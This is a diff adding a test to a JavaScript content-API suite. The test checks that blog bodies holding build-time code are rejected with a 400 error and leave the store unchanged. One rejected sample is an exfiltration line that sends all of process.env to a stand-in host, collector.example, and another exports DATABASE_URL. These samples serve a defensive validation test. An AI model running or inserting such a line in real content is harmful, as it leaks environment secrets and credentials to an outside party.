@@ -256,6 +256,32 @@ describe('reading and saving', () => {
     expect(allRefs()).toBe(before);
   });
 
+  test('text that would run code at build time is 400 and writes nothing; data and notes in braces save', async () => {
+    const before = allRefs();
+    const read = (await call('GET', '/api/content/blog/en/roda', 'owner')).body;
+    for (const [line, code] of [
+      ['export const secret = process.env.DATABASE_URL', 'an import or export line'],
+      ['Sent {fetch("https://collector.example/?" + JSON.stringify(process.env))}.', 'a {…} expression'],
+      ['<ComparisonTable caption="Loads" rows={rows()} />', 'the rows attribute of <ComparisonTable>'],
+    ]) {
+      const bad = await call('PUT', '/api/content/blog/en/roda', 'owner', {
+        ...edited(read),
+        body: `\nFirst paragraph.\n\n${line}\n`,
+      });
+      expect(bad.status, bad.text).toBe(400);
+      expect(bad.body.error.code).toBe('invalid_body');
+      expect(bad.body.error.fields.body).toContain(`Line 4 holds ${code}`);
+    }
+    expect(allRefs()).toBe(before);
+    const data =
+      '<ComparisonTable caption="Loads" rows={[{ area: "Steam", medicinal: "Clean", supplements: "Plant" }]} />';
+    const saved = await call('PUT', '/api/content/blog/en/roda', 'owner', {
+      ...edited(read),
+      body: `${read.body}\n{/* Checked against the P&ID, revision C. */}\n\n${data}\n`,
+    });
+    expect(saved.status, saved.text).toBe(200);
+  });
+
   test('a path outside the content folders is 400 and writes nothing', async () => {
     const before = allRefs();
     const body = { frontmatter: newsItem(), body: '\nText.\n' };
